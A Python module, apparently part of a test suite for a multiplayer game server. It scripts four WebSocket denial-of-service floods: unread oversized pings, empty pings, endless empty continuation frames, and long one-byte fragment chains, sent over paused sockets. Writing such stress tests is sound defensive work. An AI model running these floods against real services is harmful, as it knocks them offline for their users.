"""Attacks on an open WebSocket, by frames that are no requests."""

from __future__ import annotations

import json
from asyncio import StreamReader, StreamWriter

from .connections import opened, pour, together

PING, TEXT, REST = b"\x89", b"\x01", b"\x00"
MASK = b"\x80\x00\x00\x00\x00"


async def asked(url: str, path: str, body: object, token: str = "") -> dict[str, str]:
    """What is answered to a POST."""
    reader, writer = await opened(url)
    content = json.dumps(body).encode()
    head = (
        f"POST {path} HTTP/1.1\r\nhost: here\r\nconnection: close\r\nauthorization: Bearer {token}"
    )
    head += f"\r\ncontent-type: application/json\r\ncontent-length: {len(content)}\r\n\r\n"
    writer.write(head.encode() + content)
    answer = await reader.read()
    writer.close()
    told: dict[str, str] = json.loads(answer.partition(b"\r\n\r\n")[2])
    return told


async def flood(url: str, seconds: float, first: bytes, piece: bytes, sockets: int = 5) -> None:
    """The same frames without end on some sockets of a table; nothing is read."""
    token = (await asked(url, "/api/players", {"name": "Eve"}))["token"]
    table = (await asked(url, "/api/tables", {"game": "rage", "seats": 2}, token))["id"]
    handshake = (
        f"GET /api/tables/{table}/live HTTP/1.1\r\nhost: here\r\nconnection: upgrade\r\n"
        "upgrade: websocket\r\nsec-websocket-version: 13\r\n"
        "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )

    async def story(reader: StreamReader, writer: StreamWriter) -> None:
        writer.write(handshake.encode())
        await reader.readuntil(b"\r\n\r\n")
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(first)
        await pour(writer, piece)

    await together(url, seconds, story, sockets)


async def pings_unread(url: str, seconds: float) -> None:
    """Pings as long as they may be, whose pongs nobody reads."""
    await flood(url, seconds, b"", (PING + b"\xfd" + MASK[1:] + bytes(125)) * 400)


async def empty_pings(url: str, seconds: float) -> None:
    """Pings without anything in them."""
    await flood(url, seconds, b"", (PING + MASK) * 10_000)


async def empty_continuations(url: str, seconds: float) -> None:
    """A message in fragments without anything in them, without end."""
    await flood(url, seconds, TEXT + MASK, (REST + MASK) * 10_000)


async def long_fragments(url: str, seconds: float) -> None:
    """Messages as long as they may be, in fragments of a byte, one after the other."""
    fragments = (REST + b"\x81" + MASK[1:] + b"x") * 16_000
    await flood(url, seconds, b"", TEXT + MASK + fragments + b"\x80" + MASK)


ATTACKS = [pings_unread, empty_pings, empty_continuations, long_fragments]
